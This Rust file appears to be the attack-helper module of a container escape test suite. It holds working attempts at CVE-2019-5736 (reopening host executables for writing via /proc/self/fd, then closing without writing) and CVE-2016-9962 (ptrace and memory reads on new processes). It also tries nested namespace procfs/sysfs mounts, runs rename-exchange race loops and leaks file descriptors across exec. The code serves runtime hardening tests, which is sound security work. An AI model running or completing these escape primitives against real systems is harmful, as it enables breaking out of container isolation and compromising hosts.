// SPDX-License-Identifier: Apache-2.0
//! Attack helpers of the escape suite: each one really attempts the attack and reports what the
//! kernel allowed. Nothing here ever writes into a file it managed to open on the host.

use std::collections::{BTreeMap, HashMap, HashSet};
use std::fs::{self, File, OpenOptions};
use std::os::fd::{AsRawFd, IntoRawFd};
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::os::unix::net::UnixStream;
use std::os::unix::process::CommandExt;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::checks;
use crate::sys;

fn pids() -> Vec<i32> {
    let Ok(d) = fs::read_dir("/proc") else {
        return Vec::new();
    };
    d.flatten()
        .filter_map(|e| e.file_name().to_str()?.parse().ok())
        .collect()
}

fn id_of(path: &str) -> Option<(u64, u64)> {
    fs::metadata(path).ok().map(|m| (m.dev(), m.ino()))
}

/// Files that are the container's own payload (ours, busybox): opening them is legitimate.
fn payload_ids() -> HashSet<(u64, u64)> {
    ["/proc/self/exe", "/bin/busybox", "/bin/sh"]
        .iter()
        .filter_map(|p| id_of(p))
        .collect()
}

/// True while the run should go on: before the deadline and while `stop` (if any) is absent.
fn going(deadline: Instant, stop: Option<&str>) -> bool {
    Instant::now() < deadline && !stop.is_some_and(|s| std::path::Path::new(s).exists())
}

fn bump(h: &mut BTreeMap<String, u64>, k: String) {
    *h.entry(k).or_default() += 1;
}

/// `exe-watch MS`: CVE-2019-5736. Holds an `O_PATH` handle on the executable of every process
/// that is not our payload and keeps retrying a write-mode reopen through `/proc/self/fd/N`
/// (which succeeds once the file stops being executed, if it is a writable host file).
pub fn exe_watch(ms: u64, stop: Option<&str>) -> Value {
    let deadline = Instant::now() + Duration::from_millis(ms);
    let me = i32::try_from(std::process::id()).unwrap_or(0);
    let payload = payload_ids();
    let mut held: HashMap<i32, (File, String)> = HashMap::new();
    let mut ignored: HashSet<i32> = HashSet::new();
    let (mut errors, mut targets) = (BTreeMap::new(), BTreeMap::new());
    let (mut host_opens, mut memfd_opens, mut attempts) = (Vec::new(), 0u64, 0u64);
    let mut held_ids: Vec<Value> = Vec::new();
    while going(deadline, stop) {
        for pid in pids() {
            if pid == me || ignored.contains(&pid) || held.contains_key(&pid) {
                continue;
            }
            let exe = format!("/proc/{pid}/exe");
            match OpenOptions::new()
                .read(true)
                .custom_flags(libc::O_PATH)
                .open(&exe)
            {
                Ok(f) => {
                    let fdp = format!("/proc/self/fd/{}", f.as_raw_fd());
                    let id = fs::metadata(&fdp).ok().map(|m| (m.dev(), m.ino()));
                    if id.is_some_and(|i| payload.contains(&i)) {
                        ignored.insert(pid);
                        continue;
                    }
                    let t = fs::read_link(&fdp)
                        .map(|p| p.to_string_lossy().into_owned())
                        .unwrap_or_default();
                    bump(&mut targets, t.clone());
                    if let Some((dev, ino)) = id {
                        let v = json!({ "target": t, "dev": dev, "ino": ino, "fs_magic": sys::statfs_magic(&fdp).ok().map(|m| format!("{m:#x}")) });
                        if !held_ids.contains(&v) && held_ids.len() < 64 {
                            held_ids.push(v);
                        }
                    }
                    held.insert(pid, (f, t));
                }
                Err(e) => {
                    ignored.insert(pid);
                    bump(
                        &mut errors,
                        format!("open_path:{}", sys::errname(e.raw_os_error().unwrap_or(0))),
                    );
                }
            }
        }
        for (f, target) in held.values() {
            attempts += 1;
            let fdp = format!("/proc/self/fd/{}", f.as_raw_fd());
            match OpenOptions::new()
                .write(true)
                .custom_flags(libc::O_NONBLOCK)
                .open(&fdp)
            {
                // Opened for writing: the vulnerability itself. Close without writing.
                Ok(_) if target.starts_with("/memfd:") => memfd_opens += 1,
                Ok(_) => host_opens.push(target.clone()),
                Err(e) => bump(
                    &mut errors,
                    format!("write_open:{}", sys::errname(e.raw_os_error().unwrap_or(0))),
                ),
            }
        }
        if held.len() > 512 {
            held.clear();
        }
        std::thread::sleep(Duration::from_micros(200));
    }
    host_opens.sort();
    host_opens.dedup();
    json!({
        "attempts": attempts,
        "processes_held": targets.values().sum::<u64>(),
        "targets": targets,
        "held": held_ids,
        "errors": errors,
        "memfd_write_opens": memfd_opens,
        "host_write_opens": host_opens,
    })
}

/// The capability sets (hex) and `NoNewPrivs`/`Seccomp` lines of `/proc/<pid>/status`.
fn status_privs(pid: &str) -> BTreeMap<String, String> {
    let text = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    text.lines()
        .filter_map(|l| l.split_once(':'))
        .filter(|(k, _)| k.starts_with("Cap") || *k == "NoNewPrivs" || *k == "Seccomp")
        .map(|(k, v)| (k.to_string(), v.trim().to_string()))
        .collect()
}

/// Whether process `pid` holds nothing beyond what we (container PID 1) hold: every
/// capability set within ours, the same namespaces and root, no_new_privs and seccomp at
/// least ours. Read before the attacks, so for a process that is still the helper after
/// them it describes the helper.
fn confinement(pid: i32) -> Value {
    let (theirs, ours) = (status_privs(&pid.to_string()), status_privs("self"));
    let hex = |m: &BTreeMap<String, String>, k: &str| {
        m.get(k).and_then(|v| u64::from_str_radix(v, 16).ok())
    };
    let caps_within = ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"]
        .iter()
        .all(|k| matches!((hex(&theirs, k), hex(&ours, k)), (Some(t), Some(o)) if t & !o == 0));
    let num = |m: &BTreeMap<String, String>, k: &str| {
        m.get(k).and_then(|v| v.parse::<u32>().ok()).unwrap_or(0)
    };
    let filters_kept = num(&theirs, "NoNewPrivs") >= num(&ours, "NoNewPrivs")
        && num(&theirs, "Seccomp") >= num(&ours, "Seccomp");
    let same_ns = ["mnt", "pid", "net", "ipc", "uts", "user", "cgroup"]
        .iter()
        .all(|n| {
            let link = |p: &str| fs::read_link(format!("/proc/{p}/ns/{n}")).ok();
            link(&pid.to_string()).is_some() && link(&pid.to_string()) == link("self")
        });
    let same_root = id_of(&format!("/proc/{pid}/root/")) == id_of("/");
    json!({
        "confined": caps_within && filters_kept && same_ns && same_root,
        "caps_within": caps_within, "filters_kept": filters_kept,
        "same_ns": same_ns, "same_root": same_root, "status": theirs,
    })
}

/// Access attempts on one new process; `None` when it was already the payload.
fn attack_pid(pid: i32, payload: &HashSet<(u64, u64)>) -> Option<Value> {
    let exe = format!("/proc/{pid}/exe");
    let is_payload = |p: &str| id_of(p).is_some_and(|i| payload.contains(&i));
    let pre = fs::read_link(&exe).map(|p| p.to_string_lossy().into_owned());
    if pre.is_ok() && is_payload(&exe) {
        return None;
    }
    let confinement = confinement(pid);
    let attach = sys::ptrace(libc::PTRACE_ATTACH, pid);
    if attach.is_ok() {
        let _ = sys::waitpid_all(pid);
        let _ = sys::ptrace(libc::PTRACE_DETACH, pid);
        // the first stop may be the exec's SIGTRAP: the attach's SIGSTOP then stays pending
        // and would leave the process stopped (and its `exec` hanging) after the detach
        let _ = sys::kill(pid, libc::SIGCONT);
    }
    let vm = sys::process_vm_read(pid, 0x1000, 1);
    let vm_granted = matches!(vm, Ok(_) | Err(libc::EFAULT) | Err(libc::EIO));
    let mem = File::open(format!("/proc/{pid}/mem")).is_ok();
    let environ = fs::read(format!("/proc/{pid}/environ"))
        .map(|b| !b.is_empty())
        .unwrap_or(false);
    let (mut host_fds, mut host_stdio) = (Vec::new(), Vec::new());
    let fd_list = fs::read_dir(format!("/proc/{pid}/fd")).map(|d| {
        for e in d.flatten() {
            let Ok(t) = fs::read_link(e.path()) else {
                continue;
            };
            let t = t.to_string_lossy().into_owned();
            // A path target whose inode differs from that path in our view is a host file.
            if t.starts_with('/')
                && id_of(&t) != fs::metadata(e.path()).ok().map(|m| (m.dev(), m.ino()))
            {
                // fds 0-2 are the I/O the runtime's caller gives the process (the payload
                // keeps them); anything else would be the runtime's own
                let n: u32 = e
                    .file_name()
                    .to_str()
                    .and_then(|n| n.parse().ok())
                    .unwrap_or(99);
                if n <= 2 {
                    host_stdio.push(t);
                } else {
                    host_fds.push(t);
                }
            }
        }
    });
    let post_payload = is_payload(&exe);
    // exe only changes at execve: still readable and not the payload after the attacks means
    // every read above saw the helper (an exec in between would make the payload's own
    // stdio look like a helper's fds)
    let still_helper = !post_payload && fs::metadata(&exe).is_ok();
    let granted = attach.is_ok() || vm_granted || mem || environ || fd_list.is_ok() || pre.is_ok();
    Some(json!({
        "pid": pid,
        "exe_before": pre.as_ref().ok(),
        "attach": checks::result("ptrace", attach),
        "vm_read": checks::result("process_vm_readv", vm),
        "mem": mem, "environ": environ, "fd_list": fd_list.is_ok(),
        "host_fds": if still_helper { host_fds } else { Vec::new() },
        "host_stdio": if still_helper { host_stdio } else { Vec::new() },
        "violation": granted && still_helper,
        "confinement": confinement,
    }))
}

/// `ptrace-watch MS`: CVE-2016-9962. Every process that appears is attacked at once (ptrace
/// attach, process_vm_readv, /proc/PID/{mem,environ,fd}) before it has become the payload.
pub fn ptrace_watch(ms: u64, stop: Option<&str>) -> Value {
    let deadline = Instant::now() + Duration::from_millis(ms);
    let payload = payload_ids();
    let mut seen: HashSet<i32> = pids().into_iter().collect();
    let (mut new_pids, mut already_payload) = (0u64, 0u64);
    let (mut violations, mut host_fds, mut exposed) = (Vec::new(), Vec::new(), 0u64);
    let mut host_stdio = Vec::new();
    let (mut unconfined, mut violation_count) = (Vec::new(), 0u64);
    while going(deadline, stop) {
        for pid in pids() {
            if !seen.insert(pid) {
                continue;
            }
            new_pids += 1;
            match attack_pid(pid, &payload) {
                None => already_payload += 1,
                Some(v) => {
                    exposed += 1;
                    if let Some(h) = v["host_fds"].as_array().filter(|a| !a.is_empty()) {
                        host_fds.extend(h.iter().cloned());
                    }
                    if let Some(h) = v["host_stdio"].as_array().filter(|a| !a.is_empty()) {
                        host_stdio.extend(h.iter().take(3).cloned());
                    }
                    if v["violation"] == json!(true) {
                        violation_count += 1;
                        let confined = v["confinement"]["confined"] == json!(true);
                        if !confined && unconfined.len() < 20 {
                            unconfined.push(v.clone());
                        }
                        if violations.len() < 20 {
                            violations.push(v);
                        }
                    }
                }
            }
        }
    }
    json!({
        "new_pids": new_pids,
        "already_payload": already_payload,
        "caught_before_exec": exposed,
        "violations": violations,
        "violation_count": violation_count,
        "unconfined_violations": unconfined,
        "host_fds": host_fds,
        "host_stdio": host_stdio.into_iter().take(30).collect::<Vec<_>>(),
    })
}

fn step(report: &mut serde_json::Map<String, Value>, name: &str, r: sys::SysResult) -> bool {
    let ok = r.is_ok();
    report.insert(name.to_string(), checks::result(name, r));
    ok
}

fn write_file(path: &str, data: &str) -> sys::SysResult {
    fs::write(path, data)
        .map(|_| 0)
        .map_err(|e| e.raw_os_error().unwrap_or(0))
}

/// `nested-mount`: ESC-12. Nested `unshare -mrpf`, then a fresh procfs and sysfs: the kernel
/// must refuse them because the container's /proc and /sys are not fully visible.
pub fn nested_mount() -> Value {
    let mut rep = serde_json::Map::new();
    let status = fs::read_to_string("/proc/self/status").unwrap_or_default();
    let id = |k: &str| {
        status
            .lines()
            .find_map(|l| l.strip_prefix(k))
            .and_then(|r| r.split_whitespace().next())
            .unwrap_or("0")
            .to_string()
    };
    let (uid, gid) = (id("Uid:"), id("Gid:"));
    if !step(&mut rep, "unshare_user", sys::unshare(libc::CLONE_NEWUSER)) {
        return Value::Object(rep);
    }
    let _ = write_file("/proc/self/setgroups", "deny");
    step(
        &mut rep,
        "uid_map",
        write_file("/proc/self/uid_map", &format!("0 {uid} 1")),
    );
    step(
        &mut rep,
        "gid_map",
        write_file("/proc/self/gid_map", &format!("0 {gid} 1")),
    );
    if !step(
        &mut rep,
        "unshare_mnt_pid",
        sys::unshare(libc::CLONE_NEWNS | libc::CLONE_NEWPID),
    ) {
        return Value::Object(rep);
    }
    let Ok((mut rd, wr)) = std::io::pipe() else {
        return Value::Object(rep);
    };
    match sys::fork() {
        Ok(0) => {
            // Mount onto directories that already exist: the unmapped nested root cannot mkdir.
            let mut c = serde_json::Map::new();
            let _ = sys::mount("none", "/", "", libc::MS_REC | libc::MS_PRIVATE, None);
            if step(
                &mut c,
                "mount_proc",
                sys::mount("proc", "/run", "proc", 0, None),
            ) {
                let w = OpenOptions::new()
                    .write(true)
                    .open("/run/sysrq-trigger")
                    .map(|_| 0);
                step(
                    &mut c,
                    "open_sysrq",
                    w.map_err(|e| e.raw_os_error().unwrap_or(0)),
                );
            }
            step(
                &mut c,
                "mount_sysfs",
                sys::mount("sysfs", "/var", "sysfs", 0, None),
            );
            step(
                &mut c,
                "mount_tmpfs",
                sys::mount("tmpfs", "/tmp", "tmpfs", 0, None),
            );
            let mut wr = wr;
            let _ = std::io::Write::write_all(&mut wr, Value::Object(c).to_string().as_bytes());
            sys::exit_now(0);
        }
        Ok(pid) => {
            drop(wr);
            let mut s = String::new();
            let _ = std::io::Read::read_to_string(&mut rd, &mut s);
            let _ = sys::waitpid(i32::try_from(pid).unwrap_or(-1));
            rep.insert(
                "child".into(),
                serde_json::from_str(&s).unwrap_or(Value::Null),
            );
        }
        Err(e) => {
            rep.insert("fork".into(), checks::result("fork", Err(e)));
        }
    }
    Value::Object(rep)
}

/// `swap-loop MS A B`: ESC-06/07/08 attacker. Exchanges A and B (RENAME_EXCHANGE) until the
/// deadline.
pub fn swap_loop(ms: u64, a: &str, b: &str, stop: Option<&str>) -> Value {
    let deadline = Instant::now() + Duration::from_millis(ms);
    let (mut swaps, mut errors) = (0u64, BTreeMap::new());
    while going(deadline, stop) {
        match sys::rename_exchange(a, b) {
            Ok(_) => swaps += 1,
            Err(e) => bump(&mut errors, sys::errname(e)),
        }
    }
    json!({ "swaps": swaps, "errors": errors })
}

/// `leak-exec [--file P|--dir P|--unix P|--listen P]... -- CMD...`: opens each handle without
/// `FD_CLOEXEC` (fds 3, 4, ... in order) and execs CMD, which inherits them: ESC-02's careless
/// parent.
pub fn leak_exec(args: &[String]) -> Result<Value, String> {
    let mut i = 0;
    while i < args.len() && args[i] != "--" {
        let p = args.get(i + 1).ok_or("missing path")?;
        let fd = match args[i].as_str() {
            "--file" | "--dir" => File::open(p)
                .map_err(|e| format!("{p}: {e}"))?
                .into_raw_fd(),
            "--unix" => UnixStream::connect(p)
                .map_err(|e| format!("{p}: {e}"))?
                .into_raw_fd(),
            "--listen" => std::os::unix::net::UnixListener::bind(p)
                .map_err(|e| format!("{p}: {e}"))?
                .into_raw_fd(),
            other => return Err(format!("unknown option {other}")),
        };
        sys::clear_cloexec(fd).map_err(|e| format!("fcntl: {}", sys::errname(e)))?;
        i += 2;
    }
    let cmd = args
        .get(i + 1..)
        .filter(|c| !c.is_empty())
        .ok_or("missing command")?;
    let err = std::process::Command::new(&cmd[0]).args(&cmd[1..]).exec();
    Err(format!("exec {}: {err}", cmd[0]))
}
